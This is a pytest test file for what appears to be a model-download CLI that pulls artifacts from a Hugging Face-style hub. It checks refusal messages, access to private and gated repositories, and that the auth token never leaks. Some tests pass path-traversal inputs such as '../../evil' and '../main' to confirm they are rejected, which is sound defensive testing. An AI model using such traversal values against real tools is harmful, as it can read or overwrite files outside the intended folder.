def test_a_repository_without_artifacts(here, is_refused):
    here.hub.commit(REPO, {"README.md": b"# Another model", "model.pte": b"\0"})
    assert "no artifact is there" in is_refused()


def test_names_that_cannot_be(here, capsys):
    for arguments in (["no-organization", PORTABLE], [REPO, "xnnpack"], [REPO, "../../evil"]):
        with pytest.raises(SystemExit) as caught:
            main(["pull", *arguments])
        assert caught.value.code == 2
    assert not here.hub.requests


@pytest.mark.parametrize("revision", ["nowhere", "", "0" * 40, "../main", "refs/pr/7", "a b"])
def test_an_unknown_revision(here, artifacts, is_refused, revision):
    here.hub.commit(REPO, files_of(artifacts / PORTABLE))
    assert "revision" in is_refused("--revision", revision)


def test_an_unknown_repository(here, capsys):
    before = everything(here.folder.parent)
    assert main(["pull", "acme/nothing", PORTABLE]) == 2
    message = is_one_message(Ended(2, *capsys.readouterr()))
    assert "acme/nothing is not there" in message
    assert everything(here.folder.parent) == before


@pytest.mark.parametrize(
    ("token", "code"), [(None, 2), (READ_TOKEN, 2), (WRITE_TOKEN, 0)], ids=["no", "other", "right"]
)
def test_a_private_repository(here, artifacts, token, code):
    """One that somebody may not read looks like one that is not there."""
    here.hub.create("acme/private", private=True)
    files = files_of(artifacts / PORTABLE)
    here.hub.commit("acme/private", files)
    here.hub.strangers.add(READ_TOKEN)
    here.token = token
    ended = here.run("pull", "acme/private", PORTABLE, code=code)
    if code == 0:
        assert content(here.folder / PORTABLE) == named(files)
    else:
        assert "set HF_TOKEN" in is_one_message(ended)
        assert not list(here.folder.iterdir())


@pytest.mark.parametrize("token", [None, WRITE_TOKEN], ids=["no token", "a token"])
def test_a_gated_repository(here, artifacts, token):
    here.hub.create("acme/gated", gated=True)
    files = files_of(artifacts / PORTABLE)
    here.hub.commit("acme/gated", files)
    here.token = token
    message = is_one_message(here.run("pull", "acme/gated", PORTABLE, code=2))
    assert "a gated repository" in message
    assert f"accept its terms on {here.hub.url}/acme/gated" in message
    assert "HF_TOKEN" in message
    assert not list(here.folder.iterdir())


def test_a_gated_repository_that_was_granted(here, artifacts):
    here.hub.create("acme/gated", gated=True)
    files = files_of(artifacts / PORTABLE)
    here.hub.commit("acme/gated", files)
    here.hub.granted.add(WRITE_TOKEN)
    here.run("pull", "acme/gated", PORTABLE)
    assert content(here.folder / PORTABLE) == named(files)


# The token


def test_the_token_goes_to_the_hub_and_nowhere_else(here, tmp_path, artifacts):
    """Not even when the Hub sends it back in what it says."""
    here.hub.create("acme/private", private=True)
    here.hub.commit("acme/private", files_of(artifacts / PORTABLE))
    here.hub.fail("GET .*/tekken", Status(503, message=f"{WRITE_TOKEN} is tired"))
    here.hub.fail("GET .*/README", Status(403, message=f"not for {WRITE_TOKEN}"))
    refused = here.run("pull", "acme/private", PORTABLE, code=2)
    ended = here.run("pull", "acme/private", PORTABLE)
    for text in (refused.out, refused.err, ended.out, ended.err):
        assert WRITE_TOKEN not in text
        assert "X-Amz-Signature" not in text
    assert "is tired" in refused.err
    assert from_storage(here.hub)
    for item in here.hub.requests:
        bearer = f"Bearer {WRITE_TOKEN}"
        if item.path.startswith("/storage"):
            assert WRITE_TOKEN not in str(item)
        elif "acme" in item.path:
            assert item.headers.get("authorization") == bearer
    for folder in (here.folder, tmp_path / "home"):
        for path in folder.rglob("*"):
            assert WRITE_TOKEN not in str(path)
            assert not path.is_file() or WRITE_TOKEN.encode() not in path.read_bytes()
